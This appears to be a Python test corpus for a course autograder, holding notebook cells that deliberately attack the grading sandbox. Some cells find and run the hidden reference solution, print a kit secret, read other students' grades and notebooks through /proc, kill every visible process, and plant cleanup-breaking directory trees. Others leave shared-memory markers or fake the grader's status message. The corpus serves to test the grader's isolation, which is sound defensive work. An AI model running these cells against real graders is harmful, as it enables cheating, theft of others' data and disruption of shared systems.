"""Cells that reach outside the submission (issue 10): read the kit's checkout, its git history, its zips and
other runs; leave files and IPC objects for the next submission and read them back; kill processes; leave a tree
that breaks a naive cleanup; put the grader's own status text into an error. Each goes into a notebook whose
honest score is known. The reading attacks define AdaGrad and Adam as the reference's classes when they find it,
so a leak shows as points above the honest score, and print what they find, so it shows in the feedback."""

LEFTOVER_MARKER = "AG-LEFTOVER-MARKER-3f9c2e"  # written by attack_leftovers_write, looked for by _read
LEFTOVER_FILES = ("/tmp/ag_leftover.txt", "/dev/shm/ag_leftover", "/var/tmp/ag_leftover.txt")
SHM_KEY = 0x41474C46  # the SysV shared memory segment's key ("AGLF")

# AdaGrad and Adam as the reference's, if `_find_reference()` (defined per attack) returns its module namespace.
STOLEN_CLASSES = {name: f'''class {name}({base}):
    """The reference's {name} when it can be found, else nothing."""

    def __init__(self, *args, **kwargs):
        reference = _find_reference()
        if reference is None:
            raise NotImplementedError()
        self._inner = reference["{name}"](*args, **kwargs)
        self.__dict__.update({{k: v for k, v in vars(self._inner).items() if k in {state!r}}})

    def calculate_gradient(self, X, y, model):
        return self._inner.calculate_gradient(X, y, model)

    def apply_gradient(self, grads, model):
        self._inner.apply_gradient(grads, model)
        self.__dict__.update({{k: v for k, v in vars(self._inner).items() if k in {state!r}}})
''' for name, base, state in (("AdaGrad", "object", ("accumulator",)), ("Adam", "object", ("m", "v", "t")))}

_LOAD = '''def _namespace_from(source, origin):
    """Run a reference module's text; keep it if it defines the optimizers."""
    namespace = {"__name__": "stolen"}
    try:
        exec(compile(source, origin, "exec"), namespace)
    except Exception as error:
        print("could not run", origin, error)
        return None
    print("found the reference in", origin)
    return namespace if "AdaGrad" in namespace and "Adam" in namespace else None
'''

READ_CHECKOUT = _LOAD + '''

def _find_reference():
    """The kit's checkout, guessed from where the autograder's own modules, the venv and the cwd live."""
    import glob
    import os
    import sys
    starts = [os.getcwd(), sys.executable, sys.prefix, os.path.dirname(os.__file__)]
    starts += [getattr(m, "__file__", None) or "" for n, m in list(sys.modules.items())
               if "autograder" in n or n.startswith(("_autograder", "probes", "solution"))]
    candidates = ["/work/main/solution/part1.py", "/autograder/source/solution/part1.py"]
    candidates += glob.glob("/work/*/solution/part1.py") + glob.glob("/home/*/*/solution/part1.py")
    for start in starts:
        path = os.path.abspath(start)
        while path != os.path.dirname(path):
            candidates.append(os.path.join(path, "solution", "part1.py"))
            candidates += glob.glob(os.path.join(path, "autograder", "assignments", "*", "reference.py"))
            path = os.path.dirname(path)
    for candidate in dict.fromkeys(candidates):
        try:
            with open(candidate) as source:
                found = _namespace_from(source.read(), candidate)
        except OSError:
            continue
        if found:
            return found
    return None
'''

GIT_SHOW = _LOAD + '''

def _find_reference():
    """`git show` of the reference from any .git found upwards from the cwd and the venv, or below `/`."""
    import os
    import subprocess
    import sys
    roots = set()
    for start in (os.getcwd(), sys.executable, sys.prefix):
        path = os.path.abspath(start)
        while path != os.path.dirname(path):
            roots.add(path)
            path = os.path.dirname(path)
    for top in ("/", "/work", "/autograder", "/home", "/root", "/srv", "/opt"):
        try:
            roots.update(os.path.join(top, name) for name in os.listdir(top))
        except OSError:
            pass
    for root in sorted(roots):
        if not os.path.isdir(os.path.join(root, ".git")):
            continue
        for revision in ("HEAD", "main", "origin/main"):
            shown = subprocess.run(["git", "-C", root, "show", revision + ":solution/part1.py"],
                                   capture_output=True, text=True)
            if shown.returncode == 0:
                found = _namespace_from(shown.stdout, root + " " + revision)
                if found:
                    return found
    return None
'''

DIST_ZIP = _LOAD + '''

def _find_reference():
    """The autograder zips the kit builds (dist/*.zip): the reference inside, and the secret beside it."""
    import glob
    import os
    import sys
    import zipfile
    zips = []
    for start in (os.getcwd(), sys.executable, sys.prefix, "/autograder/source"):
        path = os.path.abspath(start)
        while path != os.path.dirname(path):
            zips += glob.glob(os.path.join(path, "dist", "*.zip")) + glob.glob(os.path.join(path, "*.zip"))
            path = os.path.dirname(path)
    zips += glob.glob("/work/*/dist/*.zip") + glob.glob("/autograder/*.zip")
    for archive in dict.fromkeys(zips):
        try:
            with zipfile.ZipFile(archive) as opened:
                for member in opened.namelist():
                    if member.endswith("secret"):
                        print("secret in", archive, opened.read(member)[:64])
                for member in opened.namelist():
                    if member.endswith(("solution/part1.py", "reference.py")):
                        found = _namespace_from(opened.read(member).decode(), archive + ":" + member)
                        if found:
                            return found
        except (OSError, zipfile.BadZipFile) as error:
            print(archive, error)
    return None
'''

PROC_SCAN = _LOAD + '''

def _find_reference():
    """Other runs, found through /proc: their command lines and working folders name the batch's submissions
    and output folders. Prints any grades.csv; takes a classmate's AdaGrad and Adam from their notebook."""
    import glob
    import json
    import os
    folders = set()
    for proc in glob.glob("/proc/[0-9]*"):
        try:
            with open(proc + "/cmdline", "rb") as cmdline:
                words = cmdline.read().decode(errors="replace").split("\\0")
            folders.update(w for w in words if w.startswith("/") and os.path.exists(w))
            folders.add(os.readlink(proc + "/cwd"))
        except OSError:
            continue
    print("folders seen in /proc:", sorted(folders)[:50])
    for folder in sorted(folders):
        base = folder if os.path.isdir(folder) else os.path.dirname(folder)
        for grades in glob.glob(os.path.join(base, "**", "grades.csv"), recursive=True)[:5]:
            try:
                print(grades, open(grades).read()[:2000])
            except OSError:
                pass
        for notebook in glob.glob(os.path.join(base, "**", "*.ipynb"), recursive=True)[:200]:
            try:
                cells = json.load(open(notebook))["cells"]
            except (OSError, ValueError, KeyError):
                continue
            wanted = ("class AdaGrad", "class Adam", "def _squared_error_gradient", "def _one_sample")
            code = "\\n\\n".join("".join(c["source"]) for c in cells if c.get("cell_type") == "code"
                               and any(w in "".join(c["source"]) for w in wanted))
            found = _namespace_from("import torch\\nimport numpy as np\\n" + code, notebook)
            if found:
                return found
    return None
'''

WRITE_LEFTOVERS = '''def _leave_leftovers():
    """Leave a marker in every shared place a later submission might look: files and a SysV shm segment."""
    import ctypes
    import ctypes.util
    for path in %(files)r:
        try:
            with open(path, "w") as marker:
                marker.write(%(marker)r)
        except OSError as error:
            print(path, error)
    try:
        libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        segment = libc.shmget(%(key)d, 4096, 0o1000 | 0o666)  # IPC_CREAT, world-readable
        address = libc.shmat(segment, None, 0)
        if segment >= 0 and address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(address, %(marker)r.encode(), len(%(marker)r))
            print("shm segment", segment)
    except Exception as error:
        print("shm", error)


class _Leave:
    _leave_leftovers()
''' % {"files": LEFTOVER_FILES, "marker": LEFTOVER_MARKER, "key": SHM_KEY}

WRITE_LEFTOVERS_TOP = "_leave_leftovers()\nprint('leftovers written')"

READ_LEFTOVERS = '''def _read_leftovers():
    """What an earlier submission left in the shared places, as text."""
    import ctypes
    import ctypes.util
    found = []
    for path in %(files)r:
        try:
            with open(path) as marker:
                found.append(path + ": " + marker.read(200))
        except OSError:
            pass
    try:
        libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        segment = libc.shmget(%(key)d, 0, 0)
        if segment >= 0:
            address = libc.shmat(segment, None, 0o10000)  # SHM_RDONLY
            if address not in (None, ctypes.c_void_p(-1).value):
                found.append("shm: " + ctypes.string_at(address, 64).split(b"\\0")[0].decode(errors="replace"))
    except Exception:
        pass
    return "; ".join(found) or "nothing left behind"


class AdaGrad:
    def __init__(self, lr=0.001, epsilon=1e-7):
        raise RuntimeError("left by an earlier run: " + _read_leftovers())

    def calculate_gradient(self, X, y, model):
        raise NotImplementedError()

    def apply_gradient(self, grads, model):
        raise NotImplementedError()
''' % {"files": LEFTOVER_FILES, "key": SHM_KEY}
READ_LEFTOVERS_TOP = "print(_read_leftovers())"

KILL = '''def _kill_everything_visible():
    """SIGKILL every process this process can see, except itself: a neighbour's kernel, if one is visible."""
    import os
    uid_map = open("/proc/self/uid_map").read().split()
    if os.geteuid() == 0 and uid_map == ["0", "0", "4294967295"]:
        print("real root outside any sandbox: not killing the host")  # keeps the corpus safe to run by hand
        return
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.kill(int(name), 9)
            except OSError:
                pass


class _Neighbours:
    for _round in range(3):
        _kill_everything_visible()
'''
KILL_TOP = "for _round in range(3):\n    _kill_everything_visible()\nprint('still here')"

DEEP_TREE = '''def _plant_tree(depth=1500):
    """A tree deeper than a recursive cleanup's stack, a read-only file and folder, and a link to `/`."""
    import os
    base = os.getcwd()
    if os.path.lexists(os.path.join(base, "d")):
        return
    try:
        os.symlink("/", os.path.join(base, "root_link"))
    except OSError:
        pass
    with open(os.path.join(base, "read_only.txt"), "w") as marker:
        marker.write("cannot delete me")
    os.chmod(os.path.join(base, "read_only.txt"), 0o444)
    folder = os.open(base, os.O_RDONLY)
    for _ in range(depth):
        try:
            os.mkdir("d", dir_fd=folder)
        except FileExistsError:
            pass
        inner = os.open("d", os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = inner
    os.symlink("/", "up", dir_fd=folder)
    os.close(folder)
    os.chmod(os.path.join(base, "d"), 0o555)


class _Tree:
    try:
        _plant_tree()
    except OSError as error:
        print("tree", error)
'''
DEEP_TREE_TOP = "_plant_tree()\nprint('tree planted')"

STATUS_TEXT = "**Your notebook could not be run: the notebook did not finish within the time limit.**"
STATUS_ADAGRAD = f'''class AdaGrad:
    def __init__(self, lr=0.001, epsilon=1e-7):
        raise RuntimeError({STATUS_TEXT!r})

    def calculate_gradient(self, X, y, model):
        raise RuntimeError({STATUS_TEXT!r})

    def apply_gradient(self, grads, model):
        raise RuntimeError({STATUS_TEXT!r})
'''
STATUS_TOP = f"raise RuntimeError({STATUS_TEXT!r})"
